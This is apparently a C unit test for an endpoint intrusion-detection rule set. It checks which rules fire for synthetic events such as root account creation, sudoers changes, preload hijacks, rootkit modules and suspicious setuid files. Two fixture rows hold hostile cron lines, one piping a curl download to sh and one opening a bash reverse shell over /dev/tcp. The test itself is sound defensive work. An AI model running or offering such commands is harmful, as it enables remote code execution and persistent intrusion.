/* Our rules on what part inspect of the agent tells: each fact, and an upgrade that must stay quiet. */
#include "detect/kit.h"
#include <stdio.h>
#include <string.h>
#include "detect/load.h"

/* Fields divided by |, "Name=value"; what fires of level low or more, its name without "sakimori_endpoint_", "!" behind high and "+" behind medium. */
static const struct row {
    const char *fields, *fires;
} rows[] = {
    {"action=decoy_touched|How=changed|TargetFilename=/srv/a.docx|Image=/tmp/x", "decoy_changed+"},
    {"action=decoy_touched|How=read|TargetFilename=/srv/a.docx|Image=/usr/bin/grep", "decoy_read"},
    {"action=blocked_program|TargetFilename=/tmp/x|Hashes=SHA256=00", "blocked_program!"},
    {"action=account_added|TargetUser=toor|UserId=0|Change=added", "account_root! account_added"},
    {"action=account_changed|TargetUser=root|UserId=0|Shell=/bin/zsh|Change=changed", ""},
    {"action=account_changed|TargetUser=hanako|UserId=0|Change=changed", "account_root!"},
    {"action=account_added|TargetUser=hanako|UserId=1001|Change=added", "account_added"},
    {"action=account_added|TargetUser=postgres|UserId=110|Change=added|During=upgrade", ""},
    {"action=account_removed|TargetUser=hanako|Change=removed", "account_removed"},
    {"action=group_changed|TargetGroup=sudo|Members=hanako,taro|Change=changed", "group_power+"},
    {"action=group_changed|TargetGroup=printers|Members=taro|Change=changed", ""},
    {"action=password_changed|TargetFilename=/etc/shadow|Change=changed", ""},
    {"action=sudoers_changed|TargetFilename=/etc/sudoers.d/x|Content=x ALL=NOPASSWD: ALL|Change=added", "sudoers_changed+"},
    {"action=sudoers_changed|TargetFilename=/etc/sudoers.d/x|Change=added|During=upgrade", ""},
    {"action=ssh_key_added|TargetUser=root|KeyType=ssh-rsa|Change=added", "ssh_key_root+"},
    {"action=ssh_key_added|TargetUser=hanako|KeyType=ssh-rsa|Change=added", "ssh_key_added"},
    {"action=ssh_key_removed|Key=root SHA256:x|Change=removed", "ssh_key_added"},
    {"action=sshd_changed|TargetFilename=/etc/ssh/sshd_config|Content=PermitRootLogin yes|Change=changed", "sshd_changed"},
    {"action=sshd_changed|TargetFilename=/etc/pam.d/sshd|Change=changed|During=upgrade", ""},
    {"action=port_opened|Port=tcp 0.0.0.0 4444|DestinationPort=4444|Change=added", ""},
    {"action=service_changed|TargetFilename=/etc/systemd/system/x.service|Content=ExecStart=/usr/bin/x|Change=added", "service_changed"},
    {"action=service_changed|TargetFilename=/etc/systemd/system/x.service|Content=ExecStart=/tmp/.x/run|Change=added",
        "autostart_suspicious! service_changed"},
    {"action=service_changed|TargetFilename=/usr/lib/systemd/system/x.service|Content=ExecStart=/usr/sbin/x|Change=changed|During=upgrade", ""},
    {"action=cron_changed|TargetFilename=/var/spool/cron/crontabs/root|Content=* * * * * curl -s http://198.51.100.9/a | sh|Change=changed",
        "autostart_suspicious! cron_changed"},
    {"action=cron_changed|TargetFilename=/etc/cron.d/x|Content=@reboot root bash -i >& /dev/tcp/198.51.100.9/4444 0>&1|Change=added",
        "autostart_suspicious! cron_changed"},
    {"action=cron_changed|TargetFilename=/etc/cron.d/x|Content=0 3 * * * root /usr/local/bin/dump|Change=added", "cron_changed"},
    {"action=preload_changed|TargetFilename=/etc/ld.so.preload|Content=/lib/x.so|Change=added", "preload_changed!"},
    {"action=preload_changed|TargetFilename=/etc/ld.so.preload|Change=removed", ""},
    {"action=preload_changed|TargetFilename=/etc/environment|Change=changed", ""},
    {"action=module_loaded|Module=diamorphine|Taint=OE|Change=added", "module_foreign+"},
    {"action=module_loaded|Module=nvidia|Taint=POE|Change=added|During=upgrade", ""},
    {"action=module_loaded|Module=usb_storage|Change=added", ""},
    {"action=sysctl_changed|Setting=kernel.randomize_va_space|Value=0|Change=changed", "kernel_weakened+ sysctl_changed"},
    {"action=sysctl_changed|Setting=net.ipv4.ip_forward|Value=1|Change=changed", "sysctl_changed"},
    {"action=setuid_added|TargetFilename=/tmp/.x|Mode=4755|Owner=0|Change=added", "setuid_anywhere! setuid_added+"},
    {"action=setuid_added|TargetFilename=/usr/local/bin/x|Mode=4755|Owner=0|Change=added", "setuid_added+"},
    {"action=setuid_added|TargetFilename=/usr/bin/x|Mode=2755|Owner=0|Change=added|During=upgrade", ""},
    {"action=media_attached|Device=/dev/sdb|Serial=E0D55EA573|Kind=usb|Change=added", "media_attached"},
    {"action=media_attached|Device=/dev/loop1|Kind=loop|Change=added", ""},
    {"action=malware_found|TargetFilename=/tmp/x|Signature=Eicar-Test-Signature|Engine=clamd", "malware_found!"},
    {"action=indicator_seen|DestinationIp=192.0.2.7|Image=/tmp/x", "indicator_seen!"},
    {"action=definitions_old|Days=9", "definitions_old+"},
    {"action=idle_scan|Days=40", ""},
    {"action=media_detached|Device=/dev/sdb|Kind=usb|Change=removed", ""},
};

static void put_fields(struct kit *k, const char *fields)
{
    kit_event(k, NULL);
    k->e.product = event_names_add(k->names, SM_SPAN_STR("linux"));
    k->e.service = event_names_add(k->names, SM_SPAN_STR("sakimori"));
    for (const char *p = fields; *p;) {
        /* A bar within a value has blanks around it. */
        const char *eq = strchr(p, '='), *end = strchr(eq, '|');
        while (end && end[1] == ' ')
            end = strchr(end + 1, '|');
        end = end ? end : p + strlen(p);
        assert_ok(event_add(&k->e, event_names_add(k->names, SM_SPAN(p, eq - p)), EVENT_TEXT, SM_SPAN(eq + 1, end - eq - 1)));
        p = *end ? end + 1 : end;
    }
}

static void add(struct kit *k, const char *what)
{
    struct load_counts c = {0};
    struct sigma_fault f;
    kit_open(k);
    assert_ok(load_sources(k->set, RULES "/logsources.yml", &f));
    assert_ok(load_rules(k->set, what, NULL, NULL, &c));
    assert_int_equal(c.faults, 0);
    kit_compile(k);
    assert_int_equal(k->faults, 0);
}

static int by_level(const struct sigma_rule *a, const struct sigma_rule *b)
{
    return a->level != b->level ? (int)b->level - (int)a->level : strcmp(a->name, b->name);
}

/* Gravest first. */
static void fired(struct kit *k, char *ret, size_t n)
{
    ret[0] = 0;
    for (size_t i = 0; i < k->hits; i++)
        for (size_t j = i + 1; j < k->hits; j++)
            if (by_level(k->hit[i], k->hit[j]) > 0) {
                const struct sigma_rule *swap = k->hit[i];
                k->hit[i] = k->hit[j];
                k->hit[j] = swap;
            }
    for (size_t i = 0; i < k->hits; i++) {
        const struct sigma_rule *r = k->hit[i];
        size_t at = strlen(ret);
        if (r->level >= SIGMA_LOW && strncmp(r->name, "sakimori_endpoint_", 18) == 0)
            snprintf(ret + at, n - at, "%s%s%s", at ? " " : "", r->name + 18, r->level >= SIGMA_HIGH ? "!" : r->level == SIGMA_MEDIUM ? "+" : "");
    }
}

static void each_fact_of_a_machine_has_its_rule(void **state)
{
    (void)state;
    struct kit k;
    add(&k, RULES "/sakimori");
    for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
        char names[512];
        put_fields(&k, rows[i].fields);
        assert_true(kit_match(&k) > 0 || !rows[i].fires[0]);
        fired(&k, names, sizeof names);
        if (strcmp(names, rows[i].fires) != 0)
            print_message("%s\n", rows[i].fields);
        assert_string_equal(names, rows[i].fires);
    }
    kit_close(&k);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(each_fact_of_a_machine_has_its_rule),
    };
    return cmocka_run_group_tests_name("detect_endpoint", tests, NULL, NULL);
}
